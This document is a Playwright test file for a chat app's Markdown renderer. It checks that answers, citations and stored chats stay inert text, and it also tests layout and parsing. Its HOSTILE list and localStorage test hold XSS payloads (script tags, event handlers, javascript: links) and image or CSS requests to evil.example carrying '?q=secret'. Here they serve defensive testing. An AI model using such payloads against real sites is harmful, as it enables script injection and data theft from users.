"""What becomes of an answer's Markdown: it is laid out, and nothing in it can act."""

from playwright.sync_api import Page, expect

from tests.web.harmless import assert_harmless
from tests.web.scripts import answer, citation
from tests.web.server import Replies

HOSTILE = [
    "<script>window.hacked = true</script>",
    "<img src=x onerror='window.hacked = true'>",
    "<svg onload='window.hacked = true'></svg><iframe src='https://evil.example/'></iframe>",
    "[click](javascript:window.hacked=true)",
    "[click](JaVaScRiPt:window.hacked=true)",
    "[click](data:text/html,<script>window.hacked=true</script>)",
    "[click](https://evil.example/?q=secret)",
    "[click](//evil.example/)",
    "[click](\\\\evil.example/)",
    "![pixel](https://evil.example/pixel.png?q=secret)",
    "![pixel][ref]\n\n[ref]: https://evil.example/pixel.png",
    "<https://evil.example/> and https://evil.example/auto",
    "| a |\n|---|\n| ![x](https://evil.example/t.png) <b onclick='window.hacked=true'>b</b> |",
    "```html\n<script>window.hacked = true</script>\n```",
    '[a](/ok" onmouseover="window.hacked=true)',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action='https://evil.example/'><input name=q></form>",
]


def show(page: Page, replies: Replies, text: str) -> None:
    """Have the page answer with `text`, cited from a document of that text and title, and wait until it is complete."""
    replies.chat = [answer(text, citation(1, snippet=text, title=text, heading=text, path=text))]
    page.get_by_role("button", name="New chat").click()
    page.get_by_label("Your question").fill("Go on")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Source")).to_be_visible()


def test_hostile_text_stays_text(page: Page, replies: Replies) -> None:
    """Neither in the answer nor in the panel does foreign text become an element that loads, leads away or runs."""
    page.goto("/")
    for text in HOSTILE:
        show(page, replies, f"{text}\n\nEnd. [1]")
        page.get_by_role("group", name="Source").get_by_role("button").click()
        expect(page.get_by_role("dialog")).to_be_visible()
        assert_harmless(page, text)


def test_citation_opens_only_this_site(page: Page) -> None:
    """An address that is not on this site gives no link; one that is gives its path."""
    page.goto("/")
    foreign = ["https://evil.example/", "javascript:window.hacked=true", "//evil.example/", "", None]
    given = page.evaluate(
        """async (urls) => {
            const { address } = await import('/web/citations.js');
            return urls.map((url) => address({ url, path: 'a.md', page: null }));
        }""",
        [*foreign, "/api/documents/d"],
    )
    assert given == [None] * len(foreign) + ["/api/documents/d"]


def test_stored_chats_are_not_trusted(page: Page, replies: Replies) -> None:
    """What stands in the browser's storage goes through the same door; what has another shape is left out."""
    page.goto("/")
    page.evaluate(
        """() => {
            const turns = [
                { role: 'user', content: '<img src=x onerror="window.hacked=true">' },
                { role: 'assistant', content: '![x](https://evil.example/x.png) fine', citations: [], state: 'done' },
            ];
            const put = (id, chat) => localStorage.setItem(`warmlake.chat.${id}`, JSON.stringify(chat));
            put('1', { id: 1, turns });
            put('b', { id: 'elsewhere', turns });
            put('c', null);
            localStorage.setItem('warmlake.chat.d', 'not JSON');
            put('a', { id: 'a', updated: 'x', turns });
        }"""
    )
    page.reload()
    expect(page.get_by_role("article").last).to_contain_text("fine")
    assert page.locator("#turns img").count() == 0
    assert page.evaluate("window.hacked") is None


def test_layout(page: Page, replies: Replies) -> None:
    """Headings, lists in lists, tables, code, quotes and emphasis become elements; chips stand where [n] stood."""
    page.goto("/")
    show(
        page,
        replies,
        "# Title\n\nA **bold** and *slanted* `x < 1` snake_case word [1], unknown [7].\n\n"
        "1. one\n   - inner\n2. two [1]\n\n> quoted\n\n| k | v |\n|---|:-:|\n| a \\| b | 2 |\n\n"
        "```py\nprint('<b>')\n```\n\n---\n\n[local](/web/icon.svg)",
    )
    body = page.get_by_role("article").last.locator(".prose")
    tags = body.evaluate("node => [...node.children].map((child) => child.tagName.toLowerCase())")
    assert tags == ["h3", "p", "ol", "blockquote", "div", "pre", "hr", "p"]
    expect(body.locator("strong")).to_have_text("bold")
    expect(body.locator("em")).to_have_text("slanted")
    expect(body.locator("p > code")).to_have_text("x < 1")
    expect(body.locator("p").first).to_contain_text("snake_case")
    expect(body.locator("p").first).to_contain_text("unknown [7]")
    expect(body.locator("ol > li")).to_have_count(2)
    expect(body.locator("ol > li ul > li")).to_have_text("inner")
    expect(body.locator("td").first).to_have_text("a | b")
    expect(body.locator("pre")).to_have_text("print('<b>')")
    expect(body.locator(".chip")).to_have_text(["1", "1"])
    expect(body.get_by_role("link", name="local")).to_have_attribute("href", "/web/icon.svg")


def test_any_text_is_laid_out(page: Page) -> None:
    """Text made to exhaust a parser is laid out like any other, and what stands after it too."""
    page.goto("/")
    pieces = ["*", "_", "[", "![", "`", "> ", "- ", "**a ", "_a ", "[a](", "| ", "~~~\n", "a|b\n-|-\n", "- a\n  ", "\\"]
    for piece in pieces:
        text = page.evaluate(
            """async (source) => {
                const { render } = await import('/web/markdown.js');
                const box = document.createElement('div');
                render(box, source);
                return box.textContent;
            }""",
            piece * (20_000 // len(piece)) + "\n\n~~~\n```\n\nEnd.",
        )
        assert text.endswith("End."), piece


def test_streaming_keeps_finished_blocks(page: Page, replies: Replies) -> None:
    """A delta touches only the block it belongs to: the nodes of finished blocks stay the same."""
    page.goto("/")
    kept, count = page.evaluate(
        """async () => {
            const { render } = await import('/web/markdown.js');
            const box = document.createElement('div');
            render(box, 'One.\\n\\nTwo');
            const first = box.firstChild;
            render(box, 'One.\\n\\nTwo grows.\\n\\n- three');
            return [first === box.firstChild, box.children.length];
        }"""
    )
    assert (kept, count) == (True, 3)


def test_headings_go_down_one_level_at_a_time(page: Page) -> None:
    """Whatever levels a text jumps between, who moves from heading to heading misses none."""
    page.goto("/")
    tags = page.evaluate(
        """async () => {
            const { render } = await import('/web/markdown.js');
            const box = document.createElement('div');
            render(box, '### A\\n\\n###### B\\n\\n# C\\n\\n#### D\\n\\ntext\\n\\n## E');
            return [...box.children].map((node) => node.tagName.toLowerCase());
        }"""
    )
    assert tags == ["h3", "h4", "h3", "h4", "p", "h4"]
